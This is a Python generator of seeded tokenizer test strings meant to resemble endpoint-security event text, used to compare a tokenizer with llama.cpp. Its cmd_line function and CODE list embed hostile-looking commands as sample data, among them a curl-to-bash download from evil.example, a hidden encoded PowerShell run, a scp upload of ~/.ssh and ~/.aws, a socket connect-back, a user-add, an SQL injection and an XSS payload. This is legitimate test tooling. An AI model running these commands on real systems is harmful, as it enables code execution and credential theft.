#!/usr/bin/env python3
"""Seeded generator of tokenizer test strings (used by scripts/conformance-tokenizer
and bench/tokenize).

Strings mix scripts, emoji, code, whitespace runs, command lines and log lines:
the kinds of text an endpoint-security event carries.  Random code points are
drawn only from blocks that were complete by Unicode 15.0, so the comparison
with llama.cpp (which embeds a newer Unicode table than our utf8proc) tests our
code, not the age of a table.

    gen_strings.py [--seed N] [--count N] [--bytes N] [--invalid] OUT
        --count: write N strings separated by "\\n__ggml_vocab_test__\\n"
        --bytes: write one text of about N bytes (strings joined by newlines)
        --invalid: also emit a few strings with invalid UTF-8 bytes
"""
import argparse
import random

SEP = b"\n__ggml_vocab_test__\n"

# (first, last) code point ranges, all assigned long before Unicode 15.0
RANGES = [
    (0x20, 0x7E), (0xA0, 0x24F), (0x370, 0x3FF), (0x400, 0x4FF), (0x5D0, 0x5EA),
    (0x620, 0x64A), (0x660, 0x669), (0x900, 0x97F), (0xE01, 0xE3A), (0xE40, 0xE5B),
    (0x1E00, 0x1EFF), (0x2000, 0x2064), (0x20A0, 0x20BF), (0x2190, 0x21FF),
    (0x2200, 0x22FF), (0x2500, 0x257F), (0x3000, 0x303F), (0x3041, 0x3096),
    (0x30A0, 0x30FF), (0x4E00, 0x9FA5), (0xAC00, 0xD7A3), (0xFF01, 0xFF5E),
    (0x1D400, 0x1D7FF), (0x1F300, 0x1F5FF), (0x1F600, 0x1F64F), (0x1F680, 0x1F6C5),
]

WORDS = ("the process user root admin failed password accepted session opened closed "
         "connection from port sshd sudo cron kernel audit execve open write read unlink "
         "chmod chown curl wget bash python3 powershell cmd.exe rundll32 regsvr32 whoami "
         "net user /add schtasks lsass mimikatz beacon payload download upload exfil token "
         "don't we'll it's I'VE they're you'd HE'S We'Re O'Neil rock'n'roll").split()
SCRIPTS = ["naïve café résumé", "Ελληνικά κείμενο", "русский текст", "עברית", "العربية ١٢٣",
           "हिन्दी पाठ", "ภาษาไทย", "日本語のテキスト", "中文字符串测试", "한국어 텍스트",
           "Straße ÆØÅ ĳ ŉ", "ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ", "𝐁𝐨𝐥𝐝 𝔉𝔯𝔞𝔨𝔱𝔲𝔯", "e\u0301 a\u0308 n\u0303"]
EMOJI = ["🙂", "🔥🔥", "👍🏽", "👨‍👩‍👧‍👦", "🇫🇷🇯🇵", "❤️", "🚀✨", "🧑‍💻", "⚠️ ☢️", "✅❌"]
SPACES = [" ", "  ", "   ", "\t", "\t\t", "\n", "\n\n", "\r\n", " \n ", "\u00a0", "\u2003",
          "\u3000", "\u2028", "\u200b", " \t \n", "        "]
CODE = [
    'int main(int argc, char **argv) {\n    return argc > 1 ? atoi(argv[1]) : 0;\n}\n',
    'def f(x):\n\tif x is None:\n\t\treturn {"a": [1, 2.5e-3, None]}\n',
    'for i in $(seq 1 10); do echo "$i" >> /tmp/out.log; done',
    '{"event":"exec","pid":4242,"ppid":1,"argv":["/bin/sh","-c","id"],"ts":"2024-11-25T16:26:01.123Z"}',
    'SELECT * FROM users WHERE name = \'admin\' OR 1=1; --',
    '<script>alert(document.cookie)</script>',
    'x = [a**2 for a in range(10) if a % 3 == 0]  # comment',
    '#!/bin/bash\nset -euo pipefail\nIFS=$\'\\n\\t\'\n',
]
SPECIALISH = ["<|im_start|>", "<|im_end|>", "<s>", "</s>", "[INST]", "<|eot_id|>",
              "<|endoftext|>", "<unk>", "<0x0A>", "<|start_header_id|>", "<end_of_turn>"]


def rand_cp_text(r, n):
    out = []
    for _ in range(n):
        a, b = r.choice(RANGES)
        c = r.randint(a, b)
        if 0xD800 <= c <= 0xDFFF:
            continue
        out.append(chr(c))
    return "".join(out)


def ip(r):
    return ".".join(str(r.randint(0, 255)) for _ in range(4))


def log_line(r):
    mon = r.choice("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split())
    host = r.choice(["web01", "db-2", "laptop.local", "ip-10-0-3-17"])
    prog = r.choice(["sshd", "sudo", "CRON", "kernel", "systemd", "auditd"])
    msg = r.choice([
        f"Failed password for invalid user {r.choice(WORDS)} from {ip(r)} port {r.randint(1, 65535)} ssh2",
        f"Accepted publickey for ops from {ip(r)} port {r.randint(1024, 65535)} ssh2: RSA SHA256:{r.randbytes(8).hex()}",
        f"pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid={r.randint(1000, 2000)})",
        f"type=EXECVE msg=audit({r.randint(10**9, 2 * 10**9)}.{r.randint(0, 999):03d}:{r.randint(1, 99999)}): argc=3 a0=\"sh\" a1=\"-c\" a2=\"{r.choice(WORDS)}\"",
        f"[{r.uniform(0, 99999):.6f}] usb 1-{r.randint(1, 9)}: new high-speed USB device number {r.randint(1, 99)}",
    ])
    return f"{mon} {r.randint(1, 28):2d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} {host} {prog}[{r.randint(1, 99999)}]: {msg}"


def cmd_line(r):
    return r.choice([
        f"/usr/bin/curl -fsSL https://{r.choice(['evil', 'cdn', 'x'])}.example/{r.randbytes(4).hex()}.sh | bash",
        f"powershell.exe -NoP -W Hidden -enc {r.randbytes(24).hex().upper()}",
        f"C:\\Windows\\System32\\cmd.exe /c \"whoami /priv && net user {r.choice(WORDS)} P@ss{r.randint(0, 9999)} /add\"",
        f"python3 -c 'import socket,os;s=socket.socket();s.connect((\"{ip(r)}\",{r.randint(1, 65535)}))'",
        f"find / -perm -4000 -type f 2>/dev/null | xargs ls -la",
        f"tar czf /tmp/.{r.randbytes(3).hex()}.tgz ~/.ssh ~/.aws && scp /tmp/*.tgz u@{ip(r)}:",
        f"sudo -u#-1 /bin/bash   ;   echo    $((0x{r.randbytes(2).hex()} + {r.randint(0, 10**12)}))",
    ])


def numbers(r):
    return r.choice([
        str(r.randint(0, 10**r.randint(1, 25))),
        f"{r.uniform(-1e6, 1e6):.{r.randint(0, 9)}f}",
        f"{r.randint(0, 999)},{r.randint(0, 999):03d},{r.randint(0, 999):03d}",
        "١٢٣٤٥ ۶۷۸ ０１２３ ²³¹ ½ ⅷ",
        f"0x{r.randbytes(r.randint(1, 8)).hex()} 0o{r.randint(0, 8**6):o} 1e{r.randint(-30, 30)}",
        f"{r.randint(0, 9)}{r.randint(0, 9)}{r.randint(0, 9)}{r.randint(0, 9)}-{r.randint(0, 99):02d}",
    ])


def mixed(r):
    parts = []
    for _ in range(r.randint(1, 8)):
        k = r.random()
        if k < 0.25:
            parts.append(" ".join(r.choice(WORDS) for _ in range(r.randint(1, 6))))
        elif k < 0.4:
            parts.append(r.choice(SCRIPTS))
        elif k < 0.5:
            parts.append(r.choice(EMOJI))
        elif k < 0.62:
            parts.append(r.choice(SPACES))
        elif k < 0.7:
            parts.append(numbers(r))
        elif k < 0.78:
            parts.append(rand_cp_text(r, r.randint(1, 12)))
        elif k < 0.84:
            parts.append(r.choice(SPECIALISH))
        elif k < 0.9:
            parts.append(r.choice("'\"`.,;:!?()[]{}<>/\\|-_=+*&^%$#@~") * r.randint(1, 4))
        else:
            parts.append(r.choice(CODE)[: r.randint(5, 80)])
        if r.random() < 0.5:
            parts.append(r.choice(SPACES))
    return "".join(parts)


def one(r):
    k = r.random()
    if k < 0.15:
        return log_line(r)
    if k < 0.27:
        return cmd_line(r)
    if k < 0.37:
        return r.choice(CODE)
    if k < 0.45:
        return "".join(r.choice(SPACES) for _ in range(r.randint(1, 6))) + r.choice(WORDS) + \
            "".join(r.choice(SPACES) for _ in range(r.randint(0, 4)))
    if k < 0.52:
        return rand_cp_text(r, r.randint(1, 40))
    if k < 0.57:
        return numbers(r)
    return mixed(r)


def strings(seed, count, invalid=False):
    r = random.Random(seed)
    out = []
    for i in range(count):
        s = one(r).encode("utf-8")
        if invalid and i % 97 == 13:   # a few broken byte sequences
            bad = r.choice([b"\xff", b"\xc3", b"\xe2\x82", b"\xed\xa0\x80", b"\xf0\x9f\x99", b"\x80\x80"])
            pos = r.randint(0, len(s))
            s = s[:pos] + bad + s[pos:]
        # the separator must not occur inside a string
        s = s.replace(b"__ggml_vocab_test__", b"__ggml_vocab_tst__")
        out.append(s)
    return out


def llama_cpp_aborts(s):
    """True for input llama.cpp's tokenizer aborts on (nightjar does not):
    - a 4-byte sequence decoding above U+10FFFF: std::invalid_argument thrown
      out of llama_tokenize (nightjar reads U+FFFD);
    - an overlong encoding of U+0020 (e.g. C0 A0): it survives the U+2581
      escaping of raw-UTF-8 BPE (gemma-4) and trips GGML_ASSERT in
      find_bpe_rank."""
    i, n = 0, len(s)
    while i < n:
        b = s[i]
        c, k = None, 1
        if b < 0x80 or not b & 0x40:
            k = 1
        elif not b & 0x20:
            if i + 1 < n and (s[i + 1] & 0xC0) == 0x80:
                c, k = ((b & 0x1F) << 6) | (s[i + 1] & 0x3F), 2
        elif not b & 0x10:
            if i + 2 < n and all((s[i + j] & 0xC0) == 0x80 for j in (1, 2)):
                c, k = ((b & 0x0F) << 12) | ((s[i + 1] & 0x3F) << 6) | (s[i + 2] & 0x3F), 3
        elif not b & 0x08:
            if i + 3 < n and all((s[i + j] & 0xC0) == 0x80 for j in (1, 2, 3)):
                c = ((b & 7) << 18) | ((s[i + 1] & 0x3F) << 12) | ((s[i + 2] & 0x3F) << 6) | (s[i + 3] & 0x3F)
                k = 4
        if c is not None and (c > 0x10FFFF or c == 0x20):
            return True
        i += k
    return False


def random_bytes(seed, count):
    """Hostile input: random bytes, whitespace/control/invalid-UTF-8 soups."""
    r = random.Random(seed)
    soup1 = b" \t\n\r\x0b\x0c\x85\xa0\xc2\xe2\x80\x81\x8b\xef\xbb\xbfab1!<|>_\xf0\x9f\x98\x80\xed\xa0\x80"
    soup2 = bytes([0x20, 0x0A, 0x41, 0x61, 0x30, 0x27, 0x73, 0xC3, 0xA9, 0xE4, 0xB8, 0xAD, 0xF4, 0x8F, 0xBF, 0xBF])
    out = []
    while len(out) < count:
        n = r.randint(0, 40)
        k = r.random()
        if k < 0.4:
            s = bytes(r.randint(0, 255) for _ in range(n))
        elif k < 0.7:
            s = bytes(r.choice(soup1) for _ in range(n))
        else:
            s = bytes(r.choice(soup2) for _ in range(n))
        s = s.replace(b"__ggml_vocab_test__", b"x")
        if not llama_cpp_aborts(s):
            out.append(s)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=4)
    ap.add_argument("--count", type=int, default=0)
    ap.add_argument("--bytes", type=int, default=0)
    ap.add_argument("--invalid", action="store_true")
    ap.add_argument("out")
    a = ap.parse_args()
    if a.bytes:
        r = random.Random(a.seed)
        chunks, n = [], 0
        while n < a.bytes:
            s = one(r).encode("utf-8")
            chunks.append(s)
            n += len(s) + 1
        data = b"\n".join(chunks)[: a.bytes]
        # do not cut a UTF-8 sequence in half at the end
        while data and (data[-1] & 0xC0) == 0x80:
            data = data[:-1]
        if data and data[-1] >= 0xC0:
            data = data[:-1]
    else:
        data = SEP.join(strings(a.seed, a.count or 2000, a.invalid))
    with open(a.out, "wb") as f:
        f.write(data)


if __name__ == "__main__":
    main()
